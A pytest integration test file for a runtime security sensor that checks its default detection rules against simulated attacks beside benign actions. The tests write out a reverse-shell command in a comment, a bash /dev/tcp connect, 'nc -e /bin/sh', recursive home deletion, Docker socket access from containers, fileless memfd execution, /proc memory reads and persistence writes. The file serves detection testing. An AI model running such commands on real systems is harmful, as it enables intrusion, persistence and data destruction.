"""The default rules added for issue 13 item 4, each against a real action, beside a
benign neighbour that must not fire (one sensor for all of them).

The sensor runs the packaged default rules with the default fold period and sends
alerts to a local webhook receiver. Each test runs its benign neighbour(s) first,
then the action, waits for the alert and checks its fields, then (after a barrier:
the detector handles events in time order) that no neighbour alerted. Container
rules run busybox containers under the tests' own dockerd. Programs that the rules
know by name (insmod, nc, nginx) are this test's copies of harmless programs, or
busybox, under those names: the rules see a name, as they would of the real tool.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
import threading
import uuid

import pytest

from c8.detections.rules import default_rules_path
from tests.integration.runtimes import IMAGE
from tests.integration.sensor import Sensor
from tests.integration.test_detections_attacks import attempt, barrier, no_alert, pid_of, py, run
from tests.integration.test_detections_e2e import detector_ready

pytestmark = pytest.mark.root


@pytest.fixture(scope="module")
def bindir():
    """Helpers in a directory no rule watches: a 'server' running its argument through
    system(3), a static program that connects to a unix socket (for a busybox container),
    and harmless programs under the names the rules know."""
    d = f"/opt/c8-rules-{uuid.uuid4().hex[:8]}"
    os.makedirs(d)
    progs = {
        "server.c": '#include <stdlib.h>\nint main(int c, char **v) { return system(v[1]) != 0; }\n',
        "uconnect.c": ("#include <string.h>\n#include <sys/socket.h>\n#include <sys/un.h>\n"
                       "int main(int c, char **v) {\n  int s = socket(AF_UNIX, SOCK_STREAM, 0);\n"
                       "  struct sockaddr_un a = {.sun_family = AF_UNIX};\n"
                       "  strncpy(a.sun_path, v[1], sizeof a.sun_path - 1);\n"
                       "  return connect(s, (struct sockaddr *)&a, sizeof a) != 0; }\n"),
    }
    for src, text in progs.items():
        path = os.path.join(d, src)
        with open(path, "w") as f:
            f.write(text)
        subprocess.run(["gcc", "-O1", "-static", "-o", path[:-2], path], check=True)
    for name, prog in (("nginx", "server"), ("worker", "server")):
        shutil.copy(os.path.join(d, prog), os.path.join(d, name))
    for name in ("insmod", "lsmod", "ncat"):
        shutil.copy("/bin/true", os.path.join(d, name))
    os.symlink("/bin/busybox", os.path.join(d, "nc"))  # busybox's nc applet, by its name
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def sensor(tmp_path_factory, rx, workdir):
    s = Sensor(tmp_path_factory.mktemp("rules"),
               detections={"enabled": True, "rules": [default_rules_path()]},
               alert_output={"outputs": [{"type": "webhook", "url": rx.url, "insecure": True}]}).start()
    try:
        detector_ready(s, rx, workdir)
        yield s
    finally:
        s.stop()


def check(rx, workdir, rule, benign_act, attack, what) -> dict:
    """benign_act() -> pids that must not alert; attack() -> match(alert); the alert."""
    benign: set[int] = set()

    def act():
        benign.update(benign_act())
        return attack()
    alert = attempt(rx, rule, act, what)
    barrier(rx, workdir)
    no_alert(rx, rule, benign)
    assert alert["priority"] and alert["tags"], alert
    return alert


class Listener:
    """A TCP listener on 127.0.0.1 that accepts, sends ``reply`` and closes."""

    def __init__(self, reply: bytes = b""):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.reply, self.stop = reply, threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            try:
                conn.sendall(self.reply)
            except OSError:
                pass
            conn.close()

    def close(self):
        self.stop.set()
        self.sock.close()


def container_run(docker, *args: str) -> str:  # noqa: F811
    """docker run (extra flags first, then the command); the container id."""
    name = f"c8-rules-{uuid.uuid4().hex[:8]}"
    cidfile = os.path.join(docker.base, f"{name}.cid")
    i = args.index("--")
    docker.docker("run", "--network", "none", "--cidfile", cidfile, "--name", name, *args[:i], IMAGE,
                  *args[i + 1:], check=False)
    with open(cidfile) as f:
        return f.read().strip()


# ---- containers ------------------------------------------------------------------------

def test_namespace_and_mount_syscalls_in_a_container(sensor, rx, workdir, docker):  # noqa: F811
    rule = "Namespace or mount change in container"
    benign_ids: set[str] = set()

    def benign():
        # the same calls on the host, and a container that makes none
        benign_ids.add(container_run(docker, "--", "/bin/true"))
        return {run(["unshare", "-U", "true"])}

    def attack():
        # seccomp off, so the calls reach the kernel (and fail: no CAP_SYS_ADMIN inside)
        cid = container_run(docker, "--security-opt", "seccomp=unconfined", "--",
                            "/bin/sh", "-c", "unshare -m true; mount -t tmpfs none /tmp; exit 0")
        return lambda a: a["container"]["container_id"] == cid
    alert = check(rx, workdir, rule, benign, attack, "unshare and mount in a container")
    ev = alert["event"]
    assert ev["kind"] == "ENTER" and ev["id"] in (272, 165) and alert["priority"] == "critical"
    cid = alert["container"]["container_id"]
    barrier(rx, workdir)
    ids = {a["event"]["id"] for a in rx.alerts(rule) if a["container"]["container_id"] == cid}
    assert ids == {272, 165}, ids   # unshare and mount, each its own process
    bad = [a for a in rx.alerts(rule) if a["container"]["container_id"] in benign_ids]
    assert not bad, [(a["event"]["id"], a["process"], a["event"].get("process_lineage")) for a in bad]


def test_runtime_socket_opened_and_connected_in_a_container(sensor, rx, workdir, bindir, docker):  # noqa: F811
    d = tempfile.mkdtemp(prefix="sock-", dir=workdir)
    sock_path = os.path.join(d, "docker.sock")
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(sock_path)
    server.listen(16)
    benign_ids: set[str] = set()
    try:
        def benign():
            benign_ids.add(container_run(docker, "--", "/bin/cat", "/etc/hostname"))
            # the host's own clients of the socket (not in a container)
            return {run([os.path.join(bindir, "uconnect"), sock_path]),
                    run(["/bin/sh", "-c", f"cat {sock_path} 2>/dev/null; exit 0"])}

        def attack_open():
            cid = container_run(docker, "-v", f"{sock_path}:/var/run/docker.sock", "--",
                                "/bin/sh", "-c", "cat /var/run/docker.sock; exit 0")
            # busybox sh runs cat as an applet in its own process: match by the name opened
            return lambda a: a["container"]["container_id"] == cid and a["event"]["filename"] == "/var/run/docker.sock"
        alert = check(rx, workdir, "Container runtime socket opened in container", benign, attack_open,
                      "cat /var/run/docker.sock in a container")
        assert alert["event"]["kind"] == "OPEN" and alert["event"]["filename"] == "/var/run/docker.sock"

        def attack_connect():
            cid = container_run(docker, "-v", f"{sock_path}:/var/run/docker.sock",
                                "-v", f"{bindir}/uconnect:/uconnect:ro", "--", "/uconnect", "/var/run/docker.sock")
            return lambda a: a["container"]["container_id"] == cid
        alert = check(rx, workdir, "Container runtime socket connected in container", benign, attack_connect,
                      "connect(/var/run/docker.sock) in a container")
        assert alert["event"]["kind"] == "CONNECT_ATTEMPT" and alert["event"]["address"] == "/var/run/docker.sock"
        for rule in ("Container runtime socket opened in container", "Container runtime socket connected in container"):
            assert not [a for a in rx.alerts(rule) if a["container"]["container_id"] in benign_ids]
            # the runtime's own set-up of the bind mount (runc init) is an exception
            mine = [a for a in rx.alerts(rule) if a["container"]["container_id"] == alert["container"]["container_id"]]
            assert [a["process"]["pid"] for a in mine] == [alert["process"]["pid"]], [a["event"] for a in mine]
    finally:
        server.close()


# ---- reverse shells and network tools -----------------------------------------------------

def test_shell_connecting_to_the_network(sensor, rx, workdir):
    rule = "Shell connecting to the network"
    listener = Listener()
    try:
        def benign():
            return {py(f"import socket; socket.create_connection(('127.0.0.1', {listener.port})).close()")}

        def attack():
            # bash's /dev/tcp: the connection a reverse shell's `bash -i >& /dev/tcp/H/P 0>&1` makes
            pid = run(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; exec 3>&-"])
            return lambda a: pid_of(a) == pid
        alert = check(rx, workdir, rule, benign, attack, "bash /dev/tcp connect")
    finally:
        listener.close()
    ev = alert["event"]
    assert ev["kind"] == "CONNECT_ATTEMPT" and ev["address"] == "127.0.0.1" and ev["port"] == listener.port
    assert alert["process"]["exec_filename"] == "/bin/bash" and alert["priority"] == "critical"


def test_reverse_shell_by_nc_and_network_tool_run(sensor, rx, workdir, bindir):
    listener = Listener(b"exit\n")   # the "attacker": the shell it gets runs `exit`
    nc = os.path.join(bindir, "nc")
    try:
        def benign():
            # nc without -e (a port check) and a program named like no network tool
            return {run([nc, "-w", "2", "127.0.0.1", str(listener.port)], stdin=subprocess.DEVNULL,
                        stdout=subprocess.DEVNULL),
                    run([os.path.join(bindir, "lsmod")])}

        def attack():
            pid = run([nc, "-w", "5", "127.0.0.1", str(listener.port), "-e", "/bin/sh"],
                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
            return lambda a: pid_of(a) == pid
        alert = check(rx, workdir, "Reverse shell by a network tool", benign, attack, "nc -e /bin/sh")
        assert alert["event"]["exec_filename"] == nc and "-e /bin/sh" in alert["event"]["exec_command_line"]
        # the plain nc is still a network tool run; lsmod is not
        tool = attempt(rx, "Network tool run", lambda: (lambda a: a["event"]["exec_filename"] == nc), "nc run")
        assert tool["priority"] == "notice"
        assert not [a for a in rx.alerts("Network tool run") if a["event"]["exec_filename"].endswith("/lsmod")]
    finally:
        listener.close()


def test_shell_spawned_by_a_server_anywhere_up_the_lineage(sensor, rx, workdir, bindir):
    """nginx -> sh -> sh -> sh: the innermost shell's parent is a shell, nginx further up."""
    rule = "Shell spawned by server"
    # not the last command of its shell, so each `sh -c` is a child of the one before
    inner = "/bin/sh -c '/bin/sh -c \"exit 0\"; exit 0'; exit 0"
    worker_pids: set[int] = set()

    def benign():
        worker_pids.add(run([os.path.join(bindir, "worker"), inner]))
        return set()

    def attack():
        pid = run([os.path.join(bindir, "nginx"), inner])
        return lambda a: [x["pid"] for x in a["event"].get("process_lineage") or []].index(pid) >= 2 \
            if pid in [x["pid"] for x in a["event"].get("process_lineage") or []] else False
    alert = check(rx, workdir, rule, benign, attack, "nginx -> sh -> env -> sh")
    assert alert["event"]["exec_filename"] in ("/bin/sh", "/usr/bin/sh")
    assert alert["event"]["parent_exec_filename"] in ("/bin/sh", "/usr/bin/sh")
    assert not [a for a in rx.alerts(rule) if any(x["pid"] in worker_pids for x in a["event"].get("process_lineage") or [])]


# ---- destruction, kernel, credentials ------------------------------------------------------

def test_recursive_deletion_of_a_home(sensor, rx, workdir):
    rule = "Recursive deletion of system or user data"
    made = []

    def benign():
        scratch = tempfile.mkdtemp(prefix="c8-scratch-")   # /tmp: an exception
        os.makedirs(os.path.join(scratch, "a", "b"))
        home_file = f"/home/c8-test-note-{uuid.uuid4().hex[:8]}"
        open(home_file, "w").close()
        return {run(["/bin/rm", "-rf", scratch]), run(["/bin/rm", "-f", home_file])}

    def attack():
        home = f"/home/c8-test-{uuid.uuid4().hex[:8]}"
        made.append(home)
        os.makedirs(os.path.join(home, "docs", "old"))
        pid = run(["/bin/rm", "-rf", home])
        return lambda a: pid_of(a) == pid
    try:
        alert = check(rx, workdir, rule, benign, attack, "rm -rf /home/<dir>")
        assert alert["event"]["exec_command_line"].startswith("/bin/rm -rf /home/c8-test-")
    finally:
        for p in made:
            shutil.rmtree(p, ignore_errors=True)


def test_kernel_module_tool_run(sensor, rx, workdir, bindir):
    def benign():
        return {run([os.path.join(bindir, "lsmod")])}

    def attack():
        pid = run([os.path.join(bindir, "insmod"), "/tmp/c8-none.ko"])
        return lambda a: pid_of(a) == pid
    alert = check(rx, workdir, "Kernel module tool run", benign, attack, "insmod")
    assert alert["event"]["exec_command_line"].endswith("insmod /tmp/c8-none.ko")


FILELESS = """
import os
fd = os.memfd_create("beacon", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
os.execve(fd, ["beacon", "--from-memory"], {})
"""


def test_program_run_from_memory(sensor, rx, workdir, docker):  # noqa: F811
    benign_ids: set[str] = set()

    def benign():
        # a container start: runc re-executes its own cloned binary by fd ("runc init")
        benign_ids.add(container_run(docker, "--", "/bin/true"))
        return {run(["/bin/true", "/dev/fd/3"])}

    def attack():
        pid = py(FILELESS)
        return lambda a: pid_of(a) == pid
    alert = check(rx, workdir, "Program run from memory", benign, attack, "fexecve of a memfd")
    assert alert["event"]["exec_filename"].startswith("/dev/fd/")
    assert alert["event"]["exec_command_line"] == "beacon --from-memory"
    assert not [a for a in rx.alerts("Program run from memory") if a["container"]["container_id"] in benign_ids]


def test_process_memory_read(sensor, rx, workdir):
    target = subprocess.Popen(["/bin/sleep", "120"])
    try:
        def benign():
            return {py(f"open('/proc/{target.pid}/status').read()"), py("open('/proc/self/mem', 'rb').close()")}

        def attack():
            pid = py(f"open('/proc/{target.pid}/mem', 'rb').close()")
            return lambda a: pid_of(a) == pid
        alert = check(rx, workdir, "Process memory read", benign, attack, "open /proc/PID/mem")
    finally:
        target.kill()
        target.wait()
    assert alert["event"]["path"] == f"/proc/{target.pid}/mem" and alert["priority"] == "error"


# ---- persistence ---------------------------------------------------------------------------

def test_user_systemd_unit_and_shell_startup_file(sensor, rx, workdir):
    home = os.path.join(workdir, "home")
    units = os.path.join(home, ".config", "systemd", "user")
    os.makedirs(units, exist_ok=True)
    bashrc = os.path.join(home, ".bashrc")
    open(bashrc, "w").close()

    def benign():
        return {py(f"open({os.path.join(home, '.config', 'notes.txt')!r}, 'w').write('x')"),
                py(f"open({bashrc!r}).read()")}

    def unit():
        path = os.path.join(units, f"c8-test-{uuid.uuid4().hex[:8]}.service")
        pid = py(f"open({path!r}, 'w').write('[Service]\\nExecStart=/bin/true\\n')")
        return lambda a: pid_of(a) == pid and a["event"]["path"] == path
    alert = check(rx, workdir, "Systemd unit created or modified", benign, unit, "a user unit file")
    assert alert["event"]["kind"] == "OPEN" and alert["priority"] == "warning"

    def rc():
        pid = py(f"open({bashrc!r}, 'a').write('# c8 test\\n')")
        return lambda a: pid_of(a) == pid and a["event"]["path"] == bashrc
    alert = check(rx, workdir, "Shell startup file modified", benign, rc, "append to .bashrc")
    assert alert["event"]["kind"] == "OPEN"


def test_every_default_rule_is_exercised_for_real():
    """Each default rule is triggered, beside a benign neighbour, by a test of this module,
    test_detections_e2e.py or test_detections_attacks.py."""
    from c8.detections.rules import load_rules

    here = os.path.dirname(os.path.abspath(__file__))
    text = "".join(open(os.path.join(here, f)).read() for f in
                   ("test_default_rules_more.py", "test_detections_e2e.py", "test_detections_attacks.py"))
    names = [r.name for r in load_rules([default_rules_path()])[0]]
    assert len(names) >= 30
    missing = [n for n in names if f'"{n}"' not in text]
    assert not missing, missing
